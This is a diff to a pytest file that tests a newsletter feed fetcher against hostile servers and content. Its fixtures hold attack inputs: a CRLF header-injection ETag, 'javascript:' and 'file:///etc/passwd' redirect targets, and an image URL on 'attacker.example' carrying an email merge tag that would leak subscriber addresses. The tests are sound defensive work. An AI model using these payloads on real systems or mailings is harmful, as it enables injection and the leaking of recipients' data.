@@ -20,6 +20,7 @@ import threading
 import time
 from collections.abc import Callable
 from dataclasses import dataclass
+from datetime import datetime, timedelta
 from pathlib import Path
 
 import pytest
@@ -220,6 +221,40 @@ CASES: dict[str, Case] = {
     "malformed xml, nothing valid": Case(
         fixed(200, b"<rss><channel><item><title>x</ti"), "failed", "malformed"
     ),
+    # issue 10: redirects to URLs the HTTP client cannot use are typed failures
+    "redirect to a port out of range": Case(
+        fixed(302, Location="http://127.0.0.1:99999/"), "failed", "redirect"
+    ),
+    "redirect to a bad IDNA host": Case(fixed(302, Location="http://xn--/"), "failed", "redirect"),
+    "redirect to javascript:": Case(
+        fixed(302, Location="javascript:alert(1)"), "failed", "redirect"
+    ),
+    "redirect without a host": Case(fixed(301, Location="https:///feed"), "failed", "redirect"),
+    "redirect to a port that is not a number": Case(
+        fixed(302, Location="http://127.0.0.1:abc/feed"), "failed", "redirect"
+    ),
+    "redirect to a broken IPv6 literal": Case(
+        fixed(302, Location="http://[::1/feed"), "failed", "redirect"
+    ),
+    "redirect to port 0": Case(fixed(302, Location="http://127.0.0.1:0/"), "failed", "redirect"),
+    "redirect with a control character": Case(
+        fixed(302, Location="http://exa\x01mple.org/feed"), "failed", "redirect"
+    ),
+    # issue 10: Retry-After values that overflowed or were not understood
+    "retry-after 10**23 seconds": Case(
+        fixed(429, Retry_After="99999999999999999999999"), "failed", "rate_limited"
+    ),
+    "retry-after negative": Case(fixed(503, Retry_After="-120"), "failed", "rate_limited"),
+    "retry-after year 9999": Case(
+        fixed(429, Retry_After="Fri, 31 Dec 9999 23:59:59 GMT"), "failed", "rate_limited"
+    ),
+    "retry-after year 99999": Case(
+        fixed(429, Retry_After="Fri, 31 Dec 99999 23:59:59 GMT"), "failed", "rate_limited"
+    ),
+    "retry-after garbage": Case(fixed(429, Retry_After="soon\u00e9"), "failed", "rate_limited"),
+    "retry-after unicode digits": Case(
+        fixed(429, Retry_After="\u00b2\u00b3"), "failed", "rate_limited"
+    ),
 }
 
 
@@ -253,7 +288,7 @@ def test_hostile_server(server: FeedServer, tmp_path: Path, name: str) -> None:
     before = feed_row(project, "Case")
     run = run_fetch(project)
     got = run.feed("Case")
-    assert (got["status"], got.get("error_kind")) == (case.status, case.kind), got
+    assert (got["status"], got.get("error_kind")) == (case.status, case.kind), got["error"]
     assert run.seconds < case.max_seconds, f"took {run.seconds:.1f} s"
     assert run.max_rss_kb < MEMORY_LIMIT_KB, f"peak memory {run.max_rss_kb // 1024} MB"
     assert run.code == (0 if case.status != "failed" else 4)
@@ -265,7 +300,12 @@ def test_hostile_server(server: FeedServer, tmp_path: Path, name: str) -> None:
         assert after["entry_ids"] == before["entry_ids"] == ["id-10", "id-11"]
     if case.status == "failed":
         assert after["failures"] == 1 and after["last_error"] == got["error"]
+        assert got["failures"] == 1  # the real consecutive count, not 0
         assert "Traceback" not in run.stderr
+    if case.kind == "rate_limited":  # clamped: never more than a week, never in the past
+        retry = datetime.fromisoformat(after["next_retry"])
+        as_of = datetime.fromisoformat(AS_OF)
+        assert as_of < retry <= as_of + timedelta(days=7)
 
 
 def test_gone_feed_is_skipped_afterwards(server: FeedServer, tmp_path: Path) -> None:
@@ -399,3 +439,201 @@ def _no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
     for var in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
         monkeypatch.delenv(var, raising=False)
     monkeypatch.setenv("PYTHONPATH", os.pathsep.join(sys.path))
+
+
+# -- issue 10: validators, stored values and URLs nobody checked ------------------------
+
+
+def _set_feed(project: Path, name: str, **values: str | None) -> None:
+    db = sqlite3.connect(project / "digest.sqlite3")
+    with db:
+        for column, value in values.items():
+            db.execute(f"UPDATE feeds SET {column} = ? WHERE name = ?", (value, name))
+    db.close()
+
+
+NON_ASCII_VALIDATORS = {
+    "ETag": '"caf\u00e9"',
+    "Last-Modified": "Thu, 18 Dec 2025 10:00:00 GMT\u00a0\u00e9t\u00e9",
+}
+
+
+def test_non_ascii_validators_are_neither_stored_nor_sent(
+    server: FeedServer, tmp_path: Path
+) -> None:
+    body = rss([entry(10), entry(11), entry(12)])
+    project, _ = _established(server, tmp_path, fixed(200, body, **NON_ASCII_VALIDATORS))
+    second = run_fetch(project)
+    assert second.feed("Case")["status"] == "ok", second.feed("Case")
+    row = feed_row(project, "Case")
+    assert row["etag"] is None and row["last_modified"] is None
+    third = run_fetch(project)  # nothing unusable is sent back: the feed keeps working
+    assert third.feed("Case")["status"] == "ok", third.feed("Case")
+    assert "Traceback" not in second.stderr + third.stderr
+    last = [r for r in server.requests if r.path == "/case"][-1]
+    assert "if-none-match" not in last.headers and "if-modified-since" not in last.headers
+
+
+@pytest.mark.parametrize(
+    "etag, last_modified",
+    [
+        ('"caf\u00e9"', None),
+        ('"v1\x01"', None),
+        (None, "Thu, 18 Dec 2025 10:00:00 GMT\u00e9"),
+        ('"v1"\r\nX-Injected: 1', None),
+        ("x" * 5000, None),
+    ],
+)
+def test_a_store_holding_a_bad_validator_recovers_without_a_reset(
+    server: FeedServer, tmp_path: Path, etag: str | None, last_modified: str | None
+) -> None:
+    project, _ = _established(server, tmp_path, conditional)
+    _set_feed(project, "Case", etag=etag, last_modified=last_modified)
+    run = run_fetch(project)
+    assert run.feed("Case")["status"] == "ok", run.feed("Case")
+    assert "Traceback" not in run.stderr
+    last = [r for r in server.requests if r.path == "/case"][-1]
+    assert "x-injected" not in last.headers
+    assert feed_row(project, "Case")["etag"] == '"v1"'  # a good validator replaces it
+    assert run_fetch(project).feed("Case")["status"] == "not_modified"
+
+
+@pytest.mark.parametrize(
+    "stored",
+    [
+        "http://[::1/feed",
+        "javascript:alert(1)",
+        "http://127.0.0.1:99999/feed",
+        "http://xn--/feed",
+        "file:///etc/passwd",
+        "http:///nohost",
+        "",
+    ],
+)
+def test_an_invalid_stored_redirect_is_ignored(
+    server: FeedServer, tmp_path: Path, stored: str
+) -> None:
+    project, _ = _established(server, tmp_path, fixed(200, rss([entry(10), entry(15)])))
+    _set_feed(project, "Case", redirect_url=stored, etag=None)
+    run = run_fetch(project)
+    assert run.feed("Case")["status"] == "ok", run.feed("Case")
+    assert "id-15" in feed_row(project, "Case")["entry_ids"]
+    assert feed_row(project, "Case")["redirect_url"] in (None, server.url("/case"))
+    assert "Traceback" not in run.stderr
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "http://[::1/feed",
+        "http://127.0.0.1:99999/feed",
+        "http://xn--/feed",
+        "http://127.0.0.1:abc/feed",
+        "https://[zz::1]/feed",
+        "http://exa\x01mple.org/feed",
+        "http:///feed",
+    ],
+)
+def test_a_feed_url_the_client_cannot_parse_fails_alone(
+    server: FeedServer, tmp_path: Path, url: str
+) -> None:
+    """Config validation may reject these first; fetch must survive them regardless."""
+    from digest.config import FetchSettings
+    from digest.fetch import ERROR_KINDS, fetch_feeds
+    from digest.models import FeedSource, FetchStatus
+
+    results = fetch_feeds(
+        [FeedSource("Bad", url), FeedSource("Good", server.url("/good"))],
+        {},
+        root=tmp_path,
+        settings=FetchSettings(timeout=TIMEOUT, deadline=DEADLINE),
+        now=datetime.fromisoformat(AS_OF),
+    )
+    bad, good = results
+    assert bad.status is FetchStatus.FAILED and bad.error_kind == "url", bad
+    assert bad.error_kind in ERROR_KINDS and bad.error
+    assert good.status is FetchStatus.OK
+
+
+def test_build_survives_a_hostile_redirect_and_still_writes_the_issue(
+    server: FeedServer, tmp_path: Path
+) -> None:
+    project, _ = _established(server, tmp_path, fixed(302, Location="http://127.0.0.1:99999/"))
+    proc = subprocess.run(
+        [sys.executable, "-m", "digest", "build", "-p", str(project), "--as-of", AS_OF, "--json"],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert proc.returncode == 4, proc.stderr  # written, with a failed feed
+    assert "Traceback" not in proc.stderr
+    data = json.loads(proc.stdout)
+    assert data["status"] == "written_with_failures"
+    assert (Path(data["out_dir"]) / "newsletter.html").exists()
+
+
+def test_fetch_json_reports_the_real_failure_count(server: FeedServer, tmp_path: Path) -> None:
+    project, _ = _established(server, tmp_path, fixed(500, b"oops"))
+    counts = [run_fetch(project).feed("Case")["failures"] for _ in range(3)]
+    assert counts == [1, 2, 3]
+    assert run_fetch(project).feed("Good")["failures"] == 0
+
+
+# -- issue 10: hostile content, through `digest build` as a real process ----------------
+
+XML_BASE_CONTROL = (
+    b'<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"'
+    b' xml:base="http://exa\x19mple.org/news/"><title>Base</title><id>b</id>'
+    b"<updated>2025-12-18T10:00:00Z</updated><entry><title>Lawyer released on bail</title>"
+    b"<link href='lawyer.html'/><id>base-1</id><updated>2025-12-18T10:00:00Z</updated>"
+    b"<content type='html'>&lt;p&gt;Released &lt;img src='lawyer.jpg' width='600'&gt;&lt;/p&gt;"
+    b"</content></entry></feed>"
+)
+MERGE_TAG_FEED = rss(
+    [
+        entry(
+            60,
+            title="Charges dropped *|EMAIL|* {{ .Subscriber.Email }}",
+            description='<p>Free <img src="https://attacker.example/p.png?e=*|EMAIL|*" '
+            'width="600" alt="%recipient.email%"></p>',
+        )
+    ]
+).replace(b"https://example.org/60", b"https://example.org/60?u=*|UNSUB|*")
+BAD_REFERENCE_FEED = rss(
+    [entry(70), entry(71, title="Verdict &#x110000; overturned"), entry(72)]
+).replace(b"&amp;#x110000;", b"&#x110000;")
+STRAY_BYTE_FEED = rss(
+    [entry(80, title="Libération de la défenseure des droits"), entry(81, title="Égalité")]
+).replace(b"droits", b"dr\xffoits")
+
+
+def test_hostile_content_never_stops_or_garbles_a_build(server: FeedServer, tmp_path: Path) -> None:
+    feeds = {
+        "xmlbase": (XML_BASE_CONTROL, "application/atom+xml"),
+        "tags": (MERGE_TAG_FEED, "application/rss+xml"),
+        "refs": (BAD_REFERENCE_FEED, "application/rss+xml"),
+        "stray": (STRAY_BYTE_FEED, "text/xml"),
+    }
+    for name, (body, ctype) in feeds.items():
+        server.route(f"/{name}", Reply(200, body, {"Content-Type": ctype}))
+    project = make_project(tmp_path / "p", server.url("/xmlbase"), server.url("/good"))
+    with open(project / "feeds" / "feeds.toml", "a") as f:
+        for name in ("tags", "refs", "stray"):
+            f.write(f'[[feed]]\nname = "{name}"\nurl = "{server.url("/" + name)}"\n')
+    for _ in range(2):  # the second build reads everything back from the store
+        proc = subprocess.run(
+            [sys.executable, "-m", "digest", "build", "-p", str(project), "--as-of", AS_OF,
+             "--esp", "mailchimp", "--force", "--json"],
+            capture_output=True, text=True, timeout=120,
+        )  # fmt: skip
+        assert proc.returncode == 0, proc.stderr
+        out = Path(json.loads(proc.stdout)["out_dir"])
+        html = (out / "newsletter.html").read_text()
+        text = (out / "newsletter.txt").read_text()
+        manifest = json.loads((out / "manifest.json").read_text())
+        assert manifest["lint"]["ok"], manifest["lint"]["findings"]
+        for body in (html, text):
+            assert "\x19" not in body and "*|EMAIL|*" not in body and "{{" not in body
+        assert "http://example.org/news/lawyer.jpg" in html
+        assert "Libération de la défenseure des dr\ufffdoits" in html
+    assert feed_row(project, "refs")["entry_ids"] == ["id-70", "id-71", "id-72"]
